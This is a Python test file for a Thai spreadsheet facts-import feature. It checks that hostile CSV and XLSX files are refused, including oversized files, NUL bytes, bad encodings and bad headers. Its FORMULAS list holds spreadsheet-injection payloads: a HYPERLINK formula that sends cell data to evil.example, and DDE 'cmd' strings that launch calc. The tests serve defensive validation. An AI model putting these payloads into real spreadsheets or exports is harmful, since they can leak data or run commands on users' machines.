"""Hostile sheets through the facts import (core.sheets.tabular.read_rows + facts_import).

Each is refused with a clear Thai-first message and writes nothing, or is stored as plain text.
"""

import time

import pytest

from core.sheets.tabular import MAX_ROWS, SheetError, read_rows
from scoring.facts.imports import FactImportError, facts_import
from scoring.models import Fact, FactChange

from . import files_more as more

HEAD = "province,criterion,fact,value\r\n"
GOOD = [["TH-50", "3.3", "computers_total", "40"], ["TH-50", "3.3", "computers_with_antivirus", "39"]]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def csv(rows: list[list[str]], head: str = HEAD) -> bytes:
    return (head + "".join(",".join(r) + "\r\n" for r in rows)).encode()


def _import(rubric, data: bytes, filename: str):
    return facts_import(rubric=rubric, rows=read_rows(data, filename))


def _refused(rubric, data: bytes, filename: str, error=(SheetError, FactImportError)) -> str:
    with pytest.raises(error) as exc:
        _import(rubric, data, filename)
    assert Fact.objects.count() == 0
    assert FactChange.objects.count() == 0
    return str(exc.value)


@pytest.mark.parametrize("formula", FORMULAS)
def test_import_formula_as_value_refused(rubric, formula):
    message = _refused(
        rubric, csv([["TH-50", "3.3", "computers_total", f'"{formula.replace(chr(34), 2 * chr(34))}"']]), "a.csv"
    )

    assert message.startswith("แถวที่ 2: ")
    assert formula in message


@pytest.mark.parametrize("formula", FORMULAS)
def test_import_formula_as_province_refused(rubric, formula):
    data = more.xlsx([HEAD.strip().split(","), [formula, "1.1", "done", "yes"]])

    message = _refused(rubric, data, "a.xlsx")

    # openpyxl writes a cell starting with "=" as a formula: refused as such; the others are text.
    expected = "แถวที่ 2: ช่อง A2 เป็นสูตร" if formula.startswith("=") else f"แถวที่ 2: ไม่พบจังหวัด '{formula}'"
    assert message.startswith(expected)


def test_import_xlsx_formula_cell_without_cached_value_refused(rubric):
    """openpyxl writes formulas with no cached result; reading data_only would turn them into ''."""
    data = more.xlsx([HEAD.strip().split(","), ["TH-50", "3.3", "computers_total", "=40"]])

    message = _refused(rubric, data, "a.xlsx", SheetError)

    assert message.startswith("แถวที่ 2: ช่อง D2 เป็นสูตร")


@pytest.mark.parametrize("encoding", ["cp874", "tis-620", "utf-16", "utf-16-le", "utf-32"])
def test_import_csv_wrong_encoding_refused_with_advice(rubric, encoding):
    data = (HEAD + "เชียงใหม่,1.1,done,ใช่\r\n").encode(encoding)

    message = _refused(rubric, data, "a.csv", SheetError)

    assert message.startswith("ไฟล์ CSV ต้องเข้ารหัส UTF-8")


def test_import_100k_rows_refused_quickly(rubric):
    rows = [["TH-50", "1.1", "done", "yes"]] * 100_000
    started = time.monotonic()

    message = _refused(rubric, csv(rows), "big.csv", SheetError)

    assert time.monotonic() - started < 5
    assert message.startswith(f"ไฟล์มีข้อมูลเกิน {MAX_ROWS:,} แถว")


def test_import_xlsx_100k_rows_refused_quickly(rubric):
    data = more.xlsx([HEAD.strip().split(","), *[["TH-50", "1.1", "done", "yes"]] * (MAX_ROWS + 5)])
    started = time.monotonic()

    message = _refused(rubric, data, "big.xlsx", SheetError)

    assert time.monotonic() - started < 20
    assert message.startswith(f"ไฟล์มีข้อมูลเกิน {MAX_ROWS:,} แถว")


def test_import_max_rows_accepted(rubric):
    rows = read_rows(csv([["", "", "", ""]] * (MAX_ROWS - 2) + GOOD), "a.csv")

    report = facts_import(rubric=rubric, rows=rows)

    assert (report.created, len(rows)) == (2, MAX_ROWS)


def test_import_xlsx_merged_province_cells_refused(rubric):
    data = more.xlsx([HEAD.strip().split(","), *GOOD], merge="A2:A3")

    message = _refused(rubric, data, "a.xlsx", FactImportError)

    assert message == "แถวที่ 3: ไม่พบจังหวัด ''"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_thai_digits_accepted(rubric, fmt):
    rows = [["TH-50", "3.3", "computers_total", "๔๐"], ["TH-50", "3.3", "computers_with_antivirus", "๓๙"]]
    data = csv(rows) if fmt == "csv" else more.xlsx([HEAD.strip().split(","), *rows])

    report = _import(rubric, data, f"a.{fmt}")

    assert report.created == 2
    assert sorted(Fact.objects.values_list("value", flat=True)) == ["๓๙", "๔๐"]


@pytest.mark.parametrize("where", ["value", "province", "header"])
def test_import_csv_nul_byte_refused(rubric, where):
    rows = [["TH-50", "3.3", "computers_total", "4\x000"] if where == "value" else ["TH\x00-50", "1.1", "done", "yes"]]
    data = csv(rows, HEAD.replace("value", "val\x00ue") if where == "header" else HEAD)

    message = _refused(rubric, data, "a.csv", SheetError)

    assert message.startswith("ไฟล์มีอักขระ NUL")


@pytest.mark.parametrize("size", [201, 200_000, 2_000_000])
def test_import_csv_extremely_long_cell_refused(rubric, size):
    message = _refused(rubric, csv([["TH-50", "3.3", "computers_total", "4" * size]]), "a.csv")

    assert message.startswith(("แถวที่ 2: ค่ายาวเกิน 200 ตัวอักษร", "แถวที่ 2: ช่องยาวเกิน"))


def test_import_thai_header_refused(rubric):
    data = csv([["TH-50", "1.1", "done", "yes"]], "จังหวัด,ตัวชี้วัด,ข้อมูล,ค่า\r\n")

    message = _refused(rubric, data, "a.csv", FactImportError)

    assert message == ("แถวที่ 2: ไม่มีคอลัมน์ province, criterion, fact, value")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_duplicated_header_refused(rubric, fmt):
    head = ["province", "criterion", "fact", "value", "Value"]
    rows = [["TH-50", "3.3", "computers_total", "40", "99"]]
    data = csv(rows, ",".join(head) + "\r\n") if fmt == "csv" else more.xlsx([head, *rows])

    message = _refused(rubric, data, f"a.{fmt}", SheetError)

    assert message == "หัวตารางซ้ำ: value"
